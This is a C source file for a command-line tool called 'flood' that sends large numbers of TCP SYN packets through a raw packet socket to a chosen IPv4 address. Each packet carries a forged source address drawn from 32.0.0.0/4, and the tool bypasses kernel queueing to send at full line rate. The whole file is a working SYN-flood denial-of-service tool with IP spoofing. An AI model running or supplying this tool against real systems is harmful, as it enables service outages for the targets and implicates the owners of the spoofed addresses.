/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Sends COUNT SYNs, each from another forged source, as fast as the wire takes them:
 *   flood INTERFACE SOURCE_MAC DESTINATION_MAC DESTINATION_IPV4 COUNT SEED
 * Sources are a permutation of 32.0.0.0/4, so COUNT SYNs are COUNT distinct connections (at most 2^28).
 * A frame that the driver refuses for want of room is sent again: what is printed at the end has arrived.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#define BATCH 64
#define FRAME 54
#define SOURCES_BITS 28

/* A bijection of 28 bits: odd multiplications and xor-shifts. */
static uint32_t permute(uint32_t value, uint32_t seed)
{
	const uint32_t mask = (1u << SOURCES_BITS) - 1;

	for (int round = 0; round < 3; round++) {
		value = (value + seed) & mask;
		value = (value * 0x9e3779b1u) & mask;
		value ^= value >> 15;
	}
	return value;
}

static void parse_mac(const char *text, uint8_t mac[6])
{
	if (sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6) {
		fprintf(stderr, "bad MAC address %s\n", text);
		exit(2);
	}
}

static uint16_t checksum(const uint8_t *bytes, int length, uint32_t sum)
{
	for (int i = 0; i < length; i += 2)
		sum += bytes[i] << 8 | bytes[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum & 0xffff);
}

static void put16(uint8_t *at, uint16_t value)
{
	at[0] = value >> 8;
	at[1] = value;
}

static void put32(uint8_t *at, uint32_t value)
{
	put16(at, value >> 16);
	put16(at + 2, value);
}

static void fill(uint8_t *frame, uint32_t index, uint32_t seed)
{
	uint8_t *ip = frame + 14, *tcp = frame + 34;
	uint32_t mixed = (index ^ seed) * 2654435761u;
	uint16_t sum;

	put32(ip + 12, 0x20000000 | permute(index, seed));
	put16(ip + 10, 0);
	sum = checksum(ip, 20, 0);
	memcpy(ip + 10, &sum, 2);
	put16(tcp, 1024 + mixed % 60000);
	put16(tcp + 2, 1 + (mixed >> 16) % 1024);
	put32(tcp + 4, mixed);
	put16(tcp + 16, 0);
	sum = checksum(tcp, 20, 0);
	/* The pseudo header is added by hand: addresses, protocol, length. */
	sum = checksum(ip + 12, 8, (uint32_t)(uint16_t)~ntohs(sum) + 6 + 20);
	memcpy(tcp + 16, &sum, 2);
}

int main(int argc, char **argv)
{
	static uint8_t frames[BATCH][FRAME];
	struct mmsghdr messages[BATCH] = { 0 };
	struct iovec pieces[BATCH];
	struct sockaddr_ll address = { .sll_family = AF_PACKET };
	uint32_t count, seed, sent = 0;
	int sock, one = 1;

	if (argc != 7) {
		fprintf(stderr, "usage: flood INTERFACE SOURCE_MAC DESTINATION_MAC DESTINATION_IPV4 COUNT SEED\n");
		return 2;
	}
	count = strtoul(argv[5], NULL, 10);
	seed = strtoul(argv[6], NULL, 10);
	sock = socket(AF_PACKET, SOCK_RAW, 0);
	address.sll_ifindex = if_nametoindex(argv[1]);
	if (sock < 0 || !address.sll_ifindex || bind(sock, (void *)&address, sizeof(address))) {
		perror(argv[1]);
		return 1;
	}
	setsockopt(sock, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	for (int i = 0; i < BATCH; i++) {
		uint8_t *frame = frames[i];

		parse_mac(argv[3], frame);
		parse_mac(argv[2], frame + 6);
		put16(frame + 12, 0x0800);
		frame[14] = 0x45;
		put16(frame + 16, 40);
		frame[22] = 64;
		frame[23] = 6;
		if (inet_pton(AF_INET, argv[4], frame + 30) != 1) {
			fprintf(stderr, "bad address %s\n", argv[4]);
			return 2;
		}
		frame[46] = 0x50;
		frame[47] = 2;
		put16(frame + 48, 64240);
		pieces[i] = (struct iovec){ frame, FRAME };
		messages[i].msg_hdr = (struct msghdr){ .msg_iov = &pieces[i], .msg_iovlen = 1 };
	}
	while (sent < count) {
		uint32_t batch = count - sent < BATCH ? count - sent : BATCH, done = 0;

		for (uint32_t i = 0; i < batch; i++)
			fill(frames[i], sent + i, seed);
		while (done < batch) {
			int n = sendmmsg(sock, messages + done, batch - done, 0);

			if (n > 0) {
				done += n;
			} else if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR) {
				sched_yield();
			} else {
				perror("sendmmsg");
				return 1;
			}
		}
		sent += batch;
	}
	printf("%u\n", sent);
	return 0;
}
